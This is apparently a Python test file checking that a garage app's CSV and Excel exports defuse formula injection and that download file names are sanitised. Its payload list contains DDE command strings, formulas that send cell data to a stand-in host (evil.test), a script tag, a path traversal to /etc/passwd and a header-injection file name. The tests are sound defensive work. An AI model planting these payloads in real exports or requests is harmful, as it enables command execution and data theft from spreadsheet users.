import csv
import io
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest

from garageflow.tables.contract import Column, Contract
from garageflow.tables.downloads import csv_download, safe_name, xlsx_download
from garageflow.tables.neutral import neutralised, restored
from garageflow.tables.reading import read_table
from garageflow.tables.writing import TooManyRows, write_csv, write_xlsx

TWO_TEXTS = Contract(columns=(Column("one", "Een", required=True), Column("two", "Twee", required=True)))

# Formulas, the ways to hide one, and texts that only look like it.
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.test/?\"&A1,\"klik\")",
    "=WEBSERVICE(\"http://evil.test\")",
    "=IMPORTXML(\"http://evil.test\",\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "=1+1\";=1+1",
    "=\"a\"&\"b\"",
    "==1",
    "+1",
    "+31612345678",
    "+cmd|' /C calc'!A0",
    "-1",
    "-",
    "-1+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@",
    "\t=1+1",
    "\t",
    "\r=1+1",
    "\r\n=1+1",
    "\n=1+1",
    "\rtekst",
    " =1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "−1",
    "﹢1",
    "﹦1",
    "'=1+1",
    "''=1+1",
    "'+31612345678",
    "' =1",
    "'",
    "''",
    "'s-Hertogenbosch",
    "'t Hart",
    "O'Brien",
    "a=1",
    "1-2",
    "a;=1+1",
    "\"=1+1\"",
    "\"",
    "\"\"",
    "a\"b",
    "a\r\n=1+1",
    "a\tb",
    ",=1+1",
    "|=1",
    "sep=;",
    " outer spaces ",
    "_x003D_1+1",
    "<script>alert(1)</script>",
    "émoji 😀 ẞ",
    "0012",
    "1E5",
    "12-3",
    "TRUE",
    "#N/A",
]  # fmt: skip
DANGEROUS = tuple("=+-@\t\r\n＝＋－＠")


def test_forty_payloads_and_more_are_neutral_and_reversible():
    assert len(PAYLOADS) > 40
    for payload in PAYLOADS:
        neutral = neutralised(payload)
        assert not neutral.lstrip(" \u00a0\u3000\u200b\ufeff").startswith(DANGEROUS), payload
        assert restored(neutral) == payload
        # Exported a second time, it comes back as the first.
        assert restored(restored(neutralised(neutral))) == payload


@pytest.mark.parametrize("write", [write_csv, write_xlsx])
def test_what_is_written_is_read_back_unchanged(write):
    stream = io.BytesIO()

    write(
        stream,
        ["Een", "Twee"],
        [[payload, "x"] for payload in PAYLOADS] + [["x", payload] for payload in PAYLOADS],
    )

    read = [cells for _line, cells in read_table(stream, TWO_TEXTS, lines_in_cells=True)]
    assert read == [(payload, "x") for payload in PAYLOADS] + [("x", payload) for payload in PAYLOADS]
    assert not stream.closed


def test_no_cell_of_a_csv_export_begins_like_a_formula():
    stream = io.BytesIO()

    write_csv(stream, ["=Een", "Twee"], [[payload, payload] for payload in PAYLOADS])

    assert stream.getvalue().startswith(b"\xef\xbb\xbf'=Een;Twee\r\n")
    for row in csv.reader(io.StringIO(stream.getvalue().decode("utf-8-sig"), newline=""), delimiter=";"):
        assert not any(cell.lstrip().startswith(DANGEROUS) for cell in row)


def test_no_cell_of_a_workbook_is_a_formula_a_link_or_a_number():
    stream = io.BytesIO()

    write_xlsx(stream, ["Een"], [[payload] for payload in [*PAYLOADS, "http://evil.test", "123", "{=1}"]])

    sheet = openpyxl.load_workbook(stream).active
    assert {cell.data_type for (cell,) in sheet.iter_rows(max_col=1)} == {"s"}
    assert not any(cell.hyperlink for (cell,) in sheet.iter_rows(max_col=1))


def test_values_are_written_as_dutch_and_french_excel_reads_them():
    moment = datetime.fromisoformat("2026-11-21 20:30")
    row = ["Zoë", -5, Decimal("-12.50"), date(2026, 3, 1), moment, True, None]
    stream = io.BytesIO()

    write_csv(stream, ["a", "b", "c", "d", "e", "f", "g"], [row])

    assert (
        stream.getvalue().decode("utf-8-sig").splitlines()[1]
        == "Zoë;-5;-12,50;01-03-2026;21-11-2026 20:30;1;"
    )
    stream = io.BytesIO()
    write_xlsx(stream, ["a", "b", "c", "d", "e", "f", "g"], [row])
    cells = [cell.value for cell in openpyxl.load_workbook(stream).active[2]]
    assert cells == ["Zoë", -5, -12.5, datetime.fromisoformat("2026-03-01"), moment, True, None]


def test_a_cell_that_excel_has_no_room_for_is_cut_visibly():
    stream = io.BytesIO()

    write_xlsx(stream, ["a"], [["x" * 40_000]])

    value = openpyxl.load_workbook(stream).active["A2"].value
    assert (len(value), value[-2:]) == (32_767, "x…")


def test_rows_that_excel_has_no_room_for_are_an_error(monkeypatch):
    monkeypatch.setattr("garageflow.tables.writing._XLSX_ROWS", 3)

    with pytest.raises(TooManyRows):
        write_xlsx(io.BytesIO(), ["a"], [["x"]] * 3)


def test_a_template_keeps_typed_plates_as_text():
    stream = io.BytesIO()

    write_xlsx(stream, ["Een", "Twee"], [], as_text=True)

    sheet = openpyxl.load_workbook(stream).active
    assert sheet.column_dimensions["A"].number_format == "@" or sheet["A2"].number_format == "@"


def test_downloads():
    response = csv_download("Klanten 2026/11", ["Een"], [["=1"]])

    assert response.content == b"\xef\xbb\xbfEen\r\n'=1\r\n"
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="Klanten-2026-11.csv"'
    assert not response.streaming
    response = xlsx_download("x", ["Een"], [["=1"]])
    assert openpyxl.load_workbook(io.BytesIO(response.content)).active["A2"].value == "'=1"
    assert response["Content-Disposition"] == 'attachment; filename="x.xlsx"'


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("Klantenlijst", "Klantenlijst"),
        ("../../etc/passwd", "etc-passwd"),
        ('a"; filename=x.exe\r\nSet-Cookie: a', "a-filename-x-exe-Set-Cookie-a"),
        ("Zoë’s lijst.csv", "Zoes-lijst-csv"),
        ("列表", "export"),
        ("", "export"),
        ("a" * 200, "a" * 80),
    ],
)
def test_names_of_downloads_are_harmless(name, safe):
    assert safe_name(name) == safe
